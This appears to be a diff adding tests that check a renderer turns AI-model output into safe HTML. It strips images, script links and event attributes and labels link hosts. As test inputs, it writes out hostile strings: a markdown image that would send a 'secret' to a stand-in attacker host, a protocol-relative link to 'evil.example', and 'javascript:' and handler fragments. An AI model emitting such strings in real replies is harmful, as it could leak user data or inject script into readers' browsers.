@@ -1,0 +1,71 @@
+"""Whatever a model says, its HTML holds nothing but harmless elements."""
+
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from apps.rollouts.markup import ATTRIBUTES, LONGEST, TAGS, markup
+from tests.rollouts.hostile import PAYLOADS
+
+TAG = re.compile(r"<\s*([a-zA-Z][a-zA-Z0-9]*)([^>]*)>")
+SPAN = {"span"}
+
+
+def elements(html: str) -> list[tuple[str, str]]:
+    return [(name.lower(), attributes) for name, attributes in TAG.findall(html)]
+
+
+def assert_harmless(html: str) -> None:
+    for name, attributes in elements(html):
+        assert name in TAGS | SPAN, html
+        names = set(re.findall(r"([a-zA-Z-]+)\s*=", re.sub(r'"[^"]*"', '""', attributes)))
+        assert names <= {"rel", "target", "class"} | {a for allowed in ATTRIBUTES.values() for a in allowed}, html
+        for address in re.findall(r'href="([^"]*)"', attributes):
+            assert address.startswith(("http://", "https://")), html
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
+def test_hostile_output_becomes_harmless(payload):
+    assert_harmless(markup(payload))
+
+
+@given(
+    st.text()
+    | st.lists(
+        st.sampled_from(["<", ">", "[", "](", ")", "javascript:", "//e.example", "`", "\n", "&#x6a;", "<a href=", "onx=", '"', "x"])
+    ).map("".join)
+)
+@settings(max_examples=300, deadline=None)
+def test_any_output_becomes_harmless(text):
+    assert_harmless(markup(text))
+
+
+def test_a_protocol_relative_link_is_only_words():
+    assert "<a" not in markup("[words](//evil.example/x)")
+
+
+def test_a_link_prints_its_host_beside_it():
+    assert '<span class="host">(example.org)</span>' in markup("[my bank](https://example.org/login)")
+
+
+def test_a_link_leaves_no_trace_of_us():
+    assert 'rel="noopener noreferrer nofollow"' in markup("[a](https://example.org)")
+
+
+def test_images_are_not_fetched():
+    assert "<img" not in markup("![x](https://evil.example/?secret=1)")
+
+
+def test_markdown_is_rendered():
+    assert markup("**so** sorry") == "<p><strong>so</strong> sorry</p>\n"
+
+
+def test_a_deep_quote_is_cut_and_does_not_raise():
+    assert "deep" in markup("deep\n\n" + ">" * 10_000 + " x")
+
+
+def test_an_endless_reply_is_shown_as_plain_text():
+    html = markup("<b>" + "a" * LONGEST)
+    assert html.startswith("<pre>&lt;b&gt;a")
